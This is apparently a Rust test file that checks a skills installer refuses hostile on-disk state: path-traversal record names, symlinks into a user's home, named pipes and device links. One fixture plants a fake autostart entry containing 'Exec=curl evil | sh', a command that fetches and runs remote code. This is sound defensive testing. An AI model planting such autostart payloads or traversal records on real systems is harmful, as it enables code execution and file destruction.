//! The installer's trust boundary, one test per finding of issue 28: what
//! it finds on disk (skill folders, a record, a journal, a lock) may have
//! been written by a stranger and committed to a repository, so nothing
//! of it is believed without a check, and nothing outside the scope's
//! skill folders changes whatever it holds.

use crate::install_support;

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::mpsc;
use std::time::Duration;

use install_support::{SKILLS, Snap, World, assert_same, run, snapshot};
use skills_install::{Agents, Change, InstallError, Installer, Problem, Scope, State, Target};

/// Far above what any case needs: only a hang reaches it.
const HANG_GUARD: Duration = Duration::from_secs(60);

fn agents(ids: &[&str]) -> Agents {
    Agents::parse(ids).unwrap()
}

/// The testdata skills written out as their author keeps them, under
/// `dir` (the bundle's own bytes, so they match what is embedded).
fn author_sources(dir: &Path) {
    Installer::new(&SKILLS).extract(dir).unwrap();
}

/// Runs `call` on another thread and waits for it no longer than the
/// guard: a call that hangs (opening a pipe, reading a device) fails the
/// test instead of stopping the run.
fn bounded<T: Send + 'static>(what: &str, call: impl FnOnce() -> T + Send + 'static) -> T {
    let (send, receive) = mpsc::channel();
    std::thread::spawn(move || {
        let _ = send.send(call());
    });
    receive
        .recv_timeout(HANG_GUARD)
        .unwrap_or_else(|_| panic!("{what}: still running after {HANG_GUARD:?}"))
}

/// Finding 0: in an OpenClaw project (`<project>/skills` is both the
/// author's source folder and OpenClaw's skill folder), a file is not the
/// tool's because its bytes match: nothing is "up to date", and no
/// uninstall removes a source.
#[test]
fn finding_0_an_openclaw_projects_sources_are_never_taken_for_installed_copies() {
    let world = World::new("finding0-openclaw");
    let sources = world.project().join("skills");
    author_sources(&sources);
    let before = snapshot(&world.project());
    let installer = world.installer(&SKILLS);
    let openclaw = Target::new(Scope::Project).agents(agents(&["openclaw"]));

    let plan = installer.plan(&openclaw).unwrap();
    for dir in &plan.dirs {
        for skill in &dir.skills {
            assert_eq!(
                (skill.state, skill.change),
                (State::NotOurs, Change::Leave),
                "{}/{}",
                dir.shown,
                skill.name
            );
        }
    }
    let (_, out, _) = run(&installer, &["install", "--agent", "openclaw", "--dry-run"]);
    assert!(out.contains("not installed by this tool"), "{out}");
    assert!(!out.contains("keep "), "{out}");
    // Told where the sources are (as the `skills` CLI tells it), the plan
    // refuses the folder outright.
    let told = installer
        .plan(&openclaw.clone().sources([sources.clone()]))
        .unwrap();
    assert!(
        matches!(&told.problems[..], [Problem::SourceFolder { folder, .. }] if *folder == sources),
        "{:?}",
        told.problems
    );
    assert!(
        told.problems[0]
            .to_string()
            .contains("is the folder the skills are read from")
    );

    installer.uninstall(&openclaw).unwrap();
    assert_same(
        &snapshot(&world.project()),
        &before,
        "uninstall --agent openclaw",
    );
    installer
        .uninstall(&Target::new(Scope::Project).agents(Agents::All))
        .unwrap();
    assert_same(
        &snapshot(&world.project()),
        &before,
        "uninstall --agent all",
    );
    let (code, out, err) = run(&installer, &["uninstall", "--agent", "all"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_same(
        &snapshot(&world.project()),
        &before,
        "skill uninstall --agent all",
    );
    // An install leaves them alone too, and records nothing of them.
    run(&installer, &["install", "--agent", "openclaw"]);
    assert_same(
        &snapshot(&world.project()),
        &before,
        "skill install --agent openclaw",
    );
}

/// Finding 0, the other layout: sources kept in `.claude/skills`.
#[test]
fn finding_0_sources_kept_in_claude_skills_survive_an_uninstall() {
    let world = World::new("finding0-claude");
    author_sources(&world.project().join(".claude/skills"));
    let before = snapshot(&world.project());
    let installer = world.installer(&SKILLS);
    installer.uninstall(&Target::new(Scope::Project)).unwrap();
    assert_same(&snapshot(&world.project()), &before, "uninstall");
    let status = installer.status(&Target::new(Scope::Project)).unwrap();
    assert_eq!(
        status.state(".claude/skills", "pdf-forms"),
        Some(State::NotOurs)
    );
}

/// The tree of issue 28, finding 1: a repository that commits a staging
/// folder whose journal names paths through a link in the skills folder
/// (`.claude/skills/L`, pointing at the user's home).
#[cfg(unix)]
struct Planted {
    world: World,
    /// The home the link points at (not the one the installer is given).
    victim: PathBuf,
    staging: PathBuf,
    /// Both as planted.
    before: [BTreeMap<PathBuf, Snap>; 2],
}

#[cfg(unix)]
fn plant_staging(name: &str, tool: &str) -> Planted {
    let world = World::new(name);
    let victim = world.root.0.join("victim-home");
    fs::create_dir_all(victim.join("docs")).unwrap();
    fs::write(victim.join("docs/thesis.md"), "years of work\n").unwrap();
    fs::create_dir_all(victim.join(".ssh")).unwrap();
    fs::write(victim.join(".ssh/id_ed25519"), "secret key\n").unwrap();
    fs::create_dir_all(victim.join(".config")).unwrap();
    let skills = world.project().join(".claude/skills");
    let staging = skills.join(format!(".skills-staging/{tool}.project.1-1"));
    fs::create_dir_all(staging.join("old/L/.config/autostart")).unwrap();
    fs::write(
        staging.join("old/L/.config/autostart/evil.desktop"),
        "[Desktop Entry]\nExec=curl evil | sh\n",
    )
    .unwrap();
    fs::create_dir_all(staging.join("undone/L/.ssh")).unwrap();
    fs::write(staging.join("undone/L/.keep"), "").unwrap();
    fs::write(
        staging.join("journal"),
        "L/docs\t0\t1\nL/.ssh/id_ed25519\t0\t1\nL/.config/autostart\t1\t0\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(&victim, skills.join("L")).unwrap();
    Planted {
        before: [snapshot(&victim), snapshot(&staging)],
        world,
        victim,
        staging,
    }
}

#[cfg(unix)]
impl Planted {
    /// Asserts the home the link points at and the planted staging folder
    /// are as they were.
    #[track_caller]
    fn unchanged(&self, what: &str) {
        assert_same(&snapshot(&self.victim), &self.before[0], what);
        assert_same(&snapshot(&self.staging), &self.before[1], what);
        assert!(self.victim.join("docs/thesis.md").is_file(), "{what}");
        assert!(self.victim.join(".ssh/id_ed25519").is_file(), "{what}");
        assert!(!self.victim.join(".config/autostart").exists(), "{what}");
    }
}

/// Finding 1 through the `Installer` API and `mytool skill ...`: a
/// committed journal is never acted on.
#[cfg(unix)]
#[test]
fn finding_1_a_committed_staging_journal_changes_nothing_outside() {
    let planted = plant_staging("finding1-api", "mytool");
    let installer = planted.world.installer(&SKILLS);
    let target = Target::new(Scope::Project);
    let _ = installer.status(&target);
    planted.unchanged("status");
    let _ = installer.install(&target);
    planted.unchanged("install");
    let _ = installer.uninstall(&target);
    planted.unchanged("uninstall");
    for args in [&["install"][..], &["status"], &["uninstall"]] {
        let _ = run(&installer, args);
        planted.unchanged(&format!("skill {args:?}"));
    }
}

/// Writes `record` as mytool's project record.
fn plant_record(world: &World, record: &str) {
    let dir = world.project().join(".agents/.skills-install");
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join("mytool.project.json"), record).unwrap();
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Finding 2: a record's names are checked before they are joined to a
/// folder: a skill named `../../../victim` (with the digests of the
/// victim's files), folder keys outside the project, and `created`
/// folders outside it reach nothing.
#[test]
fn finding_2_a_record_cannot_name_anything_outside() {
    let world = World::new("finding2-names");
    let victim = world.root.0.join("victim");
    fs::create_dir_all(&victim).unwrap();
    let secret = b"the victim's file\n";
    fs::write(victim.join("secret.txt"), secret).unwrap();
    let digest = hex(&skills_core::sha256::digest(secret));
    // The project's own `.claude/skills`, which the `..` climb out of.
    fs::create_dir_all(world.project().join(".claude/skills")).unwrap();
    plant_record(
        &world,
        &format!(
            r#"{{
  "format": "skills-install-record-v1",
  "tool": "mytool", "version": "1.0.0", "scope": "project",
  "bundle_revision": "", "transaction": "",
  "directories": {{
    ".claude/skills": {{
      "agents": ["claude-code"], "created": [],
      "skills": {{
        "../../../victim": {{
          "revision": "", "link": null,
          "files": {{"secret.txt": {{"size": {}, "sha256": "{digest}"}}}}
        }}
      }}
    }}
  }}
}}"#,
            secret.len()
        ),
    );
    let before = snapshot(&victim);
    let installer = world.installer(&SKILLS);
    let error = installer.install(&Target::new(Scope::Project)).unwrap_err();
    assert!(matches!(error, InstallError::Record { .. }), "{error}");
    assert!(
        error
            .to_string()
            .contains("\"../../../victim\" is not a plain folder name"),
        "{error}"
    );
    assert_same(&snapshot(&victim), &before, "install");
    let _ = installer.uninstall(&Target::new(Scope::Project));
    assert_same(&snapshot(&victim), &before, "uninstall");
    for args in [&["install"][..], &["uninstall"], &["uninstall", "--force"]] {
        let _ = run(&installer, args);
        assert_same(&snapshot(&victim), &before, &format!("skill {args:?}"));
    }
}

#[test]
fn finding_2_record_folder_keys_outside_the_project_are_refused() {
    let world = World::new("finding2-keys");
    let outside = world.root.0.join("outside");
    fs::create_dir_all(&outside).unwrap();
    let absolute = outside.to_str().unwrap();
    for key in ["../outside", absolute] {
        plant_record(
            &world,
            &format!(
                r#"{{"format": "skills-install-record-v1", "tool": "mytool", "version": "1.0.0",
  "scope": "project", "bundle_revision": "", "transaction": "",
  "directories": {{"{key}": {{"agents": ["claude-code"], "created": [],
    "skills": {{"pdf-forms": {{"revision": "", "link": null, "files": {{}}}}}}}}}}}}"#
            ),
        );
        let installer = world.installer(&SKILLS);
        match installer.install(&Target::new(Scope::Project)) {
            // `..` in a key: the record is refused whole.
            Err(InstallError::Record { error, .. }) => {
                assert!(error.to_string().contains("not a plain path"), "{error}")
            }
            // A plain key that is no agent's folder: a problem, nothing written.
            Err(InstallError::Problems { .. }) => {
                let plan = installer.plan(&Target::new(Scope::Project)).unwrap();
                assert!(
                    plan.problems
                        .iter()
                        .any(|p| matches!(p, Problem::UnknownFolder { key: k } if k == key)),
                    "{:?}",
                    plan.problems
                );
            }
            other => panic!("{key}: {other:?}"),
        }
        let _ = run(&installer, &["install", "--force"]);
        let _ = run(&installer, &["uninstall", "--force"]);
        assert_eq!(fs::read_dir(&outside).unwrap().count(), 0, "{key}");
    }
}

#[test]
fn finding_2_created_folders_outside_the_project_are_not_removed() {
    let world = World::new("finding2-created");
    let installer = world.installer(&SKILLS);
    let target = Target::new(Scope::Project);
    installer.install(&target).unwrap();
    let empty_outside = world.root.0.join("empty-outside");
    let empty_absolute = world.root.0.join("empty-absolute");
    fs::create_dir_all(&empty_outside).unwrap();
    fs::create_dir_all(&empty_absolute).unwrap();
    let path = world
        .project()
        .join(".agents/.skills-install/mytool.project.json");
    let record = fs::read_to_string(&path).unwrap().replacen(
        "\"created\": [",
        &format!(
            "\"created\": [\"../empty-outside\", \"{}\", ",
            empty_absolute.display()
        ),
        1,
    );
    fs::write(&path, record).unwrap();
    let error = installer.uninstall(&target).unwrap_err();
    assert!(
        error
            .to_string()
            .contains("is neither that folder nor one above it"),
        "{error}"
    );
    let _ = run(&installer, &["uninstall", "--force"]);
    assert!(empty_outside.is_dir());
    assert!(empty_absolute.is_dir());
}

/// Makes a named pipe at `path`.
#[cfg(unix)]
fn fifo(path: &Path) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .expect("mkfifo");
    assert!(made.success(), "mkfifo {}", path.display());
}

/// Puts a hostile state file in the state folder (first), maybe pointing
/// at a folder outside (second).
#[cfg(unix)]
type Plant = fn(&Path, &Path);

/// Finding 3: the record and the lock are opened without blocking and
/// without following links; a pipe, a device or a link out is refused
/// with a message, never waited on, read without end, or created.
#[cfg(unix)]
#[test]
fn finding_3_state_files_are_never_opened_as_found() {
    let cases: [(&str, Plant); 4] = [
        ("record is a FIFO", |state, _| {
            fifo(&state.join("mytool.project.json"))
        }),
        ("lock is a FIFO", |state, _| fifo(&state.join("lock"))),
        ("record links to /dev/zero", |state, _| {
            fs::create_dir_all(state).unwrap();
            std::os::unix::fs::symlink("/dev/zero", state.join("mytool.project.json")).unwrap();
        }),
        ("lock links to a missing file outside", |state, outside| {
            fs::create_dir_all(state).unwrap();
            std::os::unix::fs::symlink(outside.join("created-by-lock"), state.join("lock"))
                .unwrap();
        }),
    ];
    for (what, plant) in cases {
        let world = World::new("finding3");
        let state = world.project().join(".agents/.skills-install");
        let outside = world.root.0.join("outside");
        fs::create_dir_all(&outside).unwrap();
        plant(&state, &outside);
        for action in ["status", "install", "uninstall"] {
            let env = world.env();
            let result = bounded(&format!("{what}: {action}"), move || {
                let installer = Installer::new(&SKILLS).tool_name("mytool").environment(env);
                let target = Target::new(Scope::Project);
                match action {
                    "status" => installer.status(&target).map(|_| ()),
                    "install" => installer.install(&target).map(|_| ()),
                    _ => installer.uninstall(&target).map(|_| ()),
                }
                .map_err(|error| error.to_string())
            });
            if what.starts_with("record") {
                let error = result.expect_err(what);
                assert!(
                    error.contains("install record"),
                    "{what}: {action}: {error}"
                );
            }
            assert_eq!(
                fs::read_dir(&outside).unwrap().count(),
                0,
                "{what}: {action} created a file outside"
            );
        }
    }
}

/// In a project, a folder the install would write that leads out of the
/// project through a link (a committed `.claude` pointing at the home) is
/// refused, whatever `force` says.
#[cfg(unix)]
#[test]
fn a_project_folder_leading_out_through_a_link_is_refused() {
    let world = World::new("link-out-of-project");
    let victim = world.root.0.join("victim-home");
    fs::create_dir_all(&victim).unwrap();
    std::os::unix::fs::symlink(&victim, world.project().join(".claude")).unwrap();
    let installer = world.installer(&SKILLS);
    let plan = installer
        .plan(&Target::new(Scope::Project).force(true))
        .unwrap();
    assert!(
        plan.problems
            .iter()
            .any(|p| matches!(p, Problem::Outside { real, .. } if real.starts_with(&victim))),
        "{:?}",
        plan.problems
    );
    assert!(installer.apply(plan).is_err());
    assert_eq!(fs::read_dir(&victim).unwrap().count(), 0);
}

/// A journal in the user's state folder that fails a check (here one in
/// the shape of the committed attack, naming paths through a link) is
/// reported and left alone.
#[cfg(unix)]
#[test]
fn a_journal_failing_a_check_is_reported_and_left_alone() {
    let planted = plant_staging("journal-check", "mytool");
    let world = &planted.world;
    let installer = world.installer(&SKILLS);
    let target = Target::new(Scope::Project);
    // A run of our own, to learn where the state folder is.
    installer.install(&target).unwrap();
    let state = fs::read_dir(world.home().join(".local/state/skills-install"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let tx = "mytool.project.1-1";
    let journal = format!(
        r#"{{"format": "skills-install-journal-v1", "transaction": "{tx}", "swapping": true,
  "directories": [{{"path": ".claude/skills", "swaps": [
    {{"name": "L/docs", "had_live": false, "has_new": true}}]}}]}}"#
    );
    let path = state.join(format!("{tx}.journal"));
    fs::write(&path, &journal).unwrap();
    let before = snapshot(&world.project());
    let error = installer.uninstall(&target).unwrap_err();
    assert!(matches!(error, InstallError::Journal { .. }), "{error}");
    assert!(
        error.to_string().contains("not a plain folder name"),
        "{error}"
    );
    assert_same(&snapshot(&world.project()), &before, "left alone");
    assert_eq!(
        fs::read_to_string(&path).unwrap(),
        journal,
        "the journal stays"
    );
    planted.unchanged("a bad journal");
    // Removed, the installer goes on.
    fs::remove_file(&path).unwrap();
    installer.uninstall(&target).unwrap();
}
